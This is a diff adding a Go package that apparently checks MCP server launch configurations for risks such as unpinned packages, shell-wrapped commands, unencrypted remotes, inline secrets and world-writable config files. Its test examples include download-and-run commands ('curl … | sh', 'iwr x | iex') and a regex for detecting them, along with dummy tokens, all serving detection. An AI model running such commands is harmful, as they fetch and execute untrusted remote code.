@@ -1,0 +1,444 @@
+// Package launch holds the launch-config rules: how a server's launch is
+// shown (Line), hashed (Hash) and compared with the pinned one (Changes,
+// Matches), and the launch-risk table reported as TRANSPORT (Rules, Risks).
+// Secrets in launch configs are redacted through engine/redact before they
+// are shown, hashed or compared.
+package launch
+
+import (
+	"fmt"
+	"io/fs"
+	"net/netip"
+	"net/url"
+	"path"
+	"regexp"
+	"sort"
+	"strings"
+
+	"github.com/descriptorpin/descriptorpin/engine"
+	"github.com/descriptorpin/descriptorpin/engine/canon"
+	"github.com/descriptorpin/descriptorpin/engine/jsonv"
+	"github.com/descriptorpin/descriptorpin/engine/redact"
+)
+
+// Line renders a server's launch for a person: the command and
+// arguments, or the URL, secrets redacted.
+func Line(s *engine.Server) string {
+	if s.Command != "" {
+		return strings.Join(append([]string{s.Command}, redact.Args(s.Args)...), " ")
+	}
+	return redact.URL(s.URL)
+}
+
+// Changes lists what differs between a pinned launch config and the
+// server's: command, args, url, transport, env and header key sets. The
+// pinned config is stored redacted (see the pin's Server.Launch); the
+// server's is redacted here before it is compared.
+func Changes(ps, s *engine.Server) []engine.Change {
+	var out []engine.Change
+	add := func(field, pinned, scanned string) {
+		if pinned != scanned {
+			out = append(out, engine.Change{Field: field, Path: field, Pinned: orAbsent(pinned), Scanned: orAbsent(scanned)})
+		}
+	}
+	add("transport", ps.Transport, s.Transport)
+	add("command", ps.Command, s.Command)
+	add("args", joinArgs(ps.Args), joinArgs(redact.Args(s.Args)))
+	add("url", ps.URL, redact.URL(s.URL))
+	add("env keys", strings.Join(ps.EnvKeys, ", "), strings.Join(s.EnvKeys, ", "))
+	add("header keys", strings.Join(ps.HeaderKeys, ", "), strings.Join(s.HeaderKeys, ", "))
+	return out
+}
+
+func orAbsent(s string) string {
+	if s == "" {
+		return engine.Absent
+	}
+	return s
+}
+
+func joinArgs(a []string) string {
+	if a == nil {
+		return ""
+	}
+	q := make([]string, len(a))
+	for i, s := range a {
+		if s == "" || strings.ContainsAny(s, " \t\"'") {
+			s = fmt.Sprintf("%q", s)
+		}
+		q[i] = s
+	}
+	return strings.Join(q, " ")
+}
+
+// Detail is the detail line of a server-level ADDED finding.
+func Detail(s *engine.Server) string {
+	d := "server launched over " + s.Transport
+	if l := Line(s); l != "" {
+		d += ": " + l
+	}
+	return d
+}
+
+// --- launch-risk rules (reported as TRANSPORT) ---
+
+// Rule is one named launch-risk rule. Check returns the detail line
+// when the rule fires. Examples fire and Counter examples do not; a test
+// runs both.
+type Rule struct {
+	Name     string
+	Severity engine.Severity
+	Check    func(s *engine.Server, mode fs.FileMode) string
+	Examples []*engine.Server
+	Counter  []*engine.Server
+}
+
+func stdio(cmd string, args ...string) *engine.Server {
+	return &engine.Server{Name: "x", Transport: "stdio", Command: cmd, Args: args}
+}
+
+func remote(u string) *engine.Server { return &engine.Server{Name: "x", Transport: "http", URL: u} }
+
+func withEnv(s *engine.Server, kv ...string) *engine.Server {
+	s.Env = map[string]string{}
+	for i := 0; i+1 < len(kv); i += 2 {
+		s.Env[kv[i]] = kv[i+1]
+		s.EnvKeys = append(s.EnvKeys, kv[i])
+	}
+	sort.Strings(s.EnvKeys)
+	return s
+}
+
+// Rules is the default launch-risk table, in report order.
+var Rules = []Rule{
+	{
+		Name: "stdio_launch", Severity: engine.Low,
+		Check: func(s *engine.Server, _ fs.FileMode) string {
+			if s.Transport != "stdio" {
+				return ""
+			}
+			return "transport 'stdio' flagged, " + TransportNote
+		},
+		Examples: []*engine.Server{stdio("node", "server.js")},
+		Counter:  []*engine.Server{remote("https://mcp.example.test/mcp")},
+	},
+	{
+		Name: "unpinned_package", Severity: engine.Medium, Check: unpinnedPackage,
+		Examples: []*engine.Server{stdio("npx", "-y", "@acme/mcp-files"), stdio("npx", "some-mcp@latest"), stdio("uvx", "mcp-server-git"),
+			stdio("npx", "-y", "pkg@^1.2.0"), stdio("pnpm", "dlx", "pkg"), stdio("npx", "github:acme/mcp"), stdio("npx", "git+https://example.test/x.git"),
+			stdio("docker", "run", "-i", "--rm", "acme/mcp:latest"), stdio("pipx", "run", "mcp-thing"), stdio("bunx", "pkg@1.x")},
+		Counter: []*engine.Server{stdio("npx", "-y", "@acme/mcp-files@1.2.3"), stdio("uvx", "mcp-server-git==0.6.2"), stdio("node", "/opt/mcp/server.js"),
+			stdio("docker", "run", "-i", "--rm", "acme/mcp@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"), stdio("uvx", "--from", "mcp-x==1.0.0", "mcp-x")},
+	},
+	{
+		Name: "shell_command", Severity: engine.High, Check: shellCommand,
+		Examples: []*engine.Server{stdio("bash", "-c", "node server.js"), stdio("sh", "-c", "curl -s https://x.test/i.sh | sh"), stdio("sudo", "node", "s.js"),
+			stdio("cmd", "/c", "start server"), stdio("powershell", "-Command", "iwr x | iex"), stdio("/bin/zsh", "-lc", "mcp")},
+		Counter: []*engine.Server{stdio("node", "server.js", "-c", "config.json"), stdio("python3", "-m", "mcp_server")},
+	},
+	{
+		Name: "plaintext_remote", Severity: engine.Medium, Check: plaintextRemote,
+		Examples: []*engine.Server{remote("http://mcp.example.test/mcp"), remote("ws://10.0.0.5:8080/ws")},
+		Counter:  []*engine.Server{remote("https://mcp.example.test/mcp"), remote("http://127.0.0.1:7411/mcp"), remote("http://localhost:3000/sse"), remote("http://[::1]:8080/")},
+	},
+	{
+		Name: "inline_secret", Severity: engine.High, Check: inlineSecret,
+		Examples: []*engine.Server{withEnv(stdio("node", "s.js"), "GITHUB_TOKEN", "ghp_0123456789abcdefghijklmnopqrstuvwxyzAB"),
+			withEnv(stdio("node", "s.js"), "API_KEY", "plain-but-named-secret"), stdio("node", "s.js", "--api-key=sk-abcdefghijklmnopqrstuvwx"),
+			remote("https://mcp.example.test/mcp?token=Zx81kQ2mP9vL3sT7wY4bN6cR0dF5gH1j")},
+		Counter: []*engine.Server{withEnv(stdio("node", "s.js"), "GITHUB_TOKEN", "${env:GITHUB_TOKEN}"), withEnv(stdio("node", "s.js"), "API_KEY", "${input:api-key}"),
+			withEnv(stdio("node", "s.js"), "LOG_LEVEL", "debug"), withEnv(stdio("node", "s.js"), "TOKEN", "$TOKEN"), stdio("node", "/home/u/projects/mcp-server/dist/index.js")},
+	},
+	{
+		Name: "writable_config", Severity: engine.High,
+		Check: func(_ *engine.Server, mode fs.FileMode) string {
+			// World-writable only: a group-writable file is common under
+			// user-private groups, where the group is the user alone.
+			if mode&0o002 == 0 {
+				return ""
+			}
+			return fmt.Sprintf("the config file is writable by every user (mode %04o), so any of them can change what this client launches", mode.Perm())
+		},
+	},
+}
+
+var packageRunners = map[string]bool{"npx": true, "bunx": true, "uvx": true}
+
+// unpinnedPackage fires on a package runner whose package has no exact
+// version, a floating tag or range, a git or tarball source, or a docker
+// image without a digest.
+func unpinnedPackage(s *engine.Server, _ fs.FileMode) string {
+	if s.Command == "" {
+		return ""
+	}
+	cmd := path.Base(strings.ReplaceAll(s.Command, "\\", "/"))
+	cmd = strings.TrimSuffix(strings.TrimSuffix(cmd, ".cmd"), ".exe")
+	args := s.Args
+	runner := ""
+	switch {
+	case packageRunners[cmd]:
+		runner = cmd
+	case (cmd == "pnpm" || cmd == "yarn") && len(args) > 0 && args[0] == "dlx":
+		runner, args = cmd+" dlx", args[1:]
+	case cmd == "pipx" && len(args) > 0 && args[0] == "run":
+		runner, args = "pipx run", args[1:]
+	case cmd == "docker" || cmd == "podman":
+		return dockerImage(cmd, args)
+	default:
+		return ""
+	}
+	pkg := ""
+	for i := 0; i < len(args); i++ {
+		a := args[i]
+		if a == "--from" && i+1 < len(args) { // uvx --from pkg==1.0 tool
+			pkg = args[i+1]
+			break
+		}
+		if a == "--package" || a == "-p" {
+			if i+1 < len(args) {
+				pkg = args[i+1]
+			}
+			break
+		}
+		if strings.HasPrefix(a, "-") {
+			continue
+		}
+		pkg = a
+		break
+	}
+	if pkg == "" {
+		return ""
+	}
+	if why := floating(runner, pkg); why != "" {
+		return fmt.Sprintf("%s runs %q %s, so what it runs can change without any edit here", runner, redact.Arg(pkg), why)
+	}
+	return ""
+}
+
+var exactNPM = regexp.MustCompile(`^(@[^/@]+/)?[^@/]+@v?\d+\.\d+\.\d+([-+][0-9A-Za-z.-]+)?$`)
+var exactPy = regexp.MustCompile(`^[A-Za-z0-9._\[\],-]+==\d[0-9A-Za-z.+!-]*$`)
+
+func floating(runner, pkg string) string {
+	low := strings.ToLower(pkg)
+	switch {
+	case strings.HasPrefix(low, "git+") || strings.HasPrefix(low, "github:") || strings.HasPrefix(low, "gitlab:") || strings.HasPrefix(low, "git://"):
+		return "from a git source"
+	case strings.HasPrefix(low, "http://") || strings.HasPrefix(low, "https://"):
+		return "from a URL"
+	case strings.HasSuffix(low, "@latest") || strings.HasSuffix(low, "@next"):
+		return "at a floating tag"
+	}
+	if runner == "uvx" || runner == "pipx run" {
+		if exactPy.MatchString(pkg) {
+			return ""
+		}
+		if strings.ContainsAny(pkg, "<>=~^*") {
+			return "with a version range"
+		}
+		return "without an exact version"
+	}
+	if exactNPM.MatchString(pkg) {
+		return ""
+	}
+	if strings.Contains(strings.TrimPrefix(pkg, "@"), "@") {
+		return "with a version range"
+	}
+	return "without an exact version"
+}
+
+func dockerImage(cmd string, args []string) string {
+	if len(args) == 0 || args[0] != "run" {
+		return ""
+	}
+	// The first argument that is not an option (or an option's value) is
+	// the image. Options taking a value are the common ones.
+	takesValue := map[string]bool{"-e": true, "--env": true, "-v": true, "--volume": true, "--name": true, "-p": true, "--publish": true,
+		"--network": true, "-w": true, "--workdir": true, "-u": true, "--user": true, "--entrypoint": true, "--env-file": true, "--mount": true, "-l": true, "--label": true, "--platform": true}
+	for i := 1; i < len(args); i++ {
+		a := args[i]
+		if strings.HasPrefix(a, "-") {
+			if takesValue[a] {
+				i++
+			}
+			continue
+		}
+		if strings.Contains(a, "@sha256:") {
+			return ""
+		}
+		return fmt.Sprintf("%s run starts image %q without a @sha256 digest, so the image behind the tag can change", cmd, a)
+	}
+	return ""
+}
+
+var shells = map[string]bool{"sh": true, "bash": true, "zsh": true, "dash": true, "ksh": true, "fish": true, "ash": true, "csh": true, "tcsh": true}
+var pipeToShell = regexp.MustCompile(`\|\s*(sudo\s+)?(ba|z|da|k)?sh\b|\b(curl|wget)\b[^|]*\|`)
+
+func shellCommand(s *engine.Server, _ fs.FileMode) string {
+	if s.Command == "" {
+		return ""
+	}
+	cmd := strings.ToLower(path.Base(strings.ReplaceAll(s.Command, "\\", "/")))
+	cmd = strings.TrimSuffix(cmd, ".exe")
+	all := strings.Join(s.Args, " ")
+	switch {
+	case cmd == "sudo" || cmd == "doas":
+		return "launched through " + cmd + ": the server runs with raised privileges"
+	case shells[cmd]:
+		for _, a := range s.Args {
+			if strings.HasPrefix(a, "-") && !strings.HasPrefix(a, "--") && strings.Contains(a, "c") {
+				if pipeToShell.MatchString(all) {
+					return "a shell runs a command line that pipes a download into a shell"
+				}
+				return "a shell interpreter runs a command string (" + cmd + " " + a + "), so the config holds a script"
+			}
+		}
+	case cmd == "cmd" && len(s.Args) > 0 && strings.EqualFold(s.Args[0], "/c"):
+		return "cmd /c runs a command string, so the config holds a script"
+	case cmd == "powershell" || cmd == "pwsh":
+		for _, a := range s.Args {
+			la := strings.ToLower(a)
+			if la == "-command" || la == "-c" || la == "-encodedcommand" || la == "-e" {
+				return cmd + " " + a + " runs a command string, so the config holds a script"
+			}
+		}
+	}
+	if pipeToShell.MatchString(all) && strings.Contains(all, "|") {
+		return "the arguments pipe a download into a shell"
+	}
+	return ""
+}
+
+func plaintextRemote(s *engine.Server, _ fs.FileMode) string {
+	if s.URL == "" {
+		return ""
+	}
+	u, err := url.Parse(s.URL)
+	if err != nil {
+		return ""
+	}
+	if u.Scheme != "http" && u.Scheme != "ws" {
+		return ""
+	}
+	host := u.Hostname()
+	if host == "localhost" || strings.HasSuffix(host, ".localhost") {
+		return ""
+	}
+	if ip, err := netip.ParseAddr(host); err == nil && ip.IsLoopback() {
+		return ""
+	}
+	return fmt.Sprintf("%s:// to %s is unencrypted: anyone on the path can read and change the tool list and the calls", u.Scheme, host)
+}
+
+func inlineSecret(s *engine.Server, _ fs.FileMode) string {
+	var where []string
+	for _, k := range s.EnvKeys {
+		if redact.SecretValue(k, s.Env[k]) {
+			where = append(where, "env "+k)
+		}
+	}
+	for _, k := range s.HeaderKeys {
+		if redact.SecretValue(k, s.Headers[k]) {
+			where = append(where, "header "+k)
+		}
+	}
+	red := redact.Args(s.Args)
+	for i := range s.Args {
+		if red[i] != s.Args[i] {
+			where = append(where, fmt.Sprintf("args[%d]", i))
+		}
+	}
+	if s.URL != "" {
+		if u, err := url.Parse(s.URL); err == nil {
+			if u.User != nil {
+				where = append(where, "url credentials")
+			}
+			for k, vs := range u.Query() {
+				for _, v := range vs {
+					if redact.SecretValue(k, v) {
+						where = append(where, "url query "+k)
+						break
+					}
+				}
+			}
+		}
+	}
+	if len(where) == 0 {
+		return ""
+	}
+	sort.Strings(where)
+	return "a secret is written inline in " + strings.Join(where, ", ") + " (value redacted): reference it instead (${env:VAR})"
+}
+
+// Risks runs the launch-risk table over every server of inv; mode is the
+// scanned file's mode (zero skips writable_config).
+func Risks(inv *engine.Inventory, mode fs.FileMode) []engine.Finding {
+	var out []engine.Finding
+	modeReported := false
+	for _, s := range inv.Servers {
+		for _, r := range Rules {
+			if r.Name == "writable_config" && modeReported {
+				continue
+			}
+			detail := r.Check(s, mode)
+			if detail == "" {
+				continue
+			}
+			subject := s.Name
+			if r.Name == "writable_config" {
+				modeReported = true
+				subject = inv.File
+			}
+			out = append(out, engine.Finding{
+				ID: engine.StableID(string(engine.Transport), subject, r.Name), Class: engine.Transport, Severity: r.Severity,
+				Subject: subject, Server: s.Name, Rule: r.Name, Transport: s.Transport, Detail: detail,
+				AcceptHash: Hash(s), Path: s.Path, Line: s.Line,
+			})
+		}
+	}
+	return out
+}
+
+// Matches reports whether a server's launch config is the pinned one (nil
+// when the server is not pinned). The service captures a stdio server
+// unattended only when it is.
+func Matches(ps, s *engine.Server) bool {
+	return ps != nil && len(Changes(ps, s)) == 0
+}
+
+// Transports a server may declare. Anything else is kept as written and
+// treated as unknown by the transport rules.
+var knownTransports = map[string]bool{
+	"stdio": true, "http": true, "sse": true, "streamable-http": true, "ws": true, "unknown": true,
+}
+
+// KnownTransport reports whether DescriptorPin knows a transport (stdio,
+// http, sse, streamable-http, ws, or the "unknown" an inventory without one
+// gets).
+func KnownTransport(t string) bool { return knownTransports[t] }
+
+// TransportNote is the original's explanation of why stdio is flagged.
+const TransportNote = "launched as a local subprocess from client config, so config can become command execution"
+
+// Hash hashes what a server's launch config says: transport, command, args
+// and URL (secrets redacted), env and header key names (never values).
+func Hash(s *engine.Server) string {
+	v := jsonv.Value{Kind: jsonv.Object}
+	add := func(k string, x jsonv.Value) { v.Members = append(v.Members, jsonv.Member{Key: k, Value: x}) }
+	add("transport", str(s.Transport))
+	add("command", str(s.Command))
+	add("args", strs(redact.Args(s.Args)))
+	add("url", str(redact.URL(s.URL)))
+	add("env_keys", strs(s.EnvKeys))
+	add("header_keys", strs(s.HeaderKeys))
+	return canon.Hash(canon.Encode(&v))
+}
+
+func str(s string) jsonv.Value { return jsonv.Value{Kind: jsonv.String, Str: s} }
+
+func strs(ss []string) jsonv.Value {
+	v := jsonv.Value{Kind: jsonv.Array, Items: []jsonv.Value{}}
+	for _, s := range ss {
+		v.Items = append(v.Items, str(s))
+	}
+	return v
+}
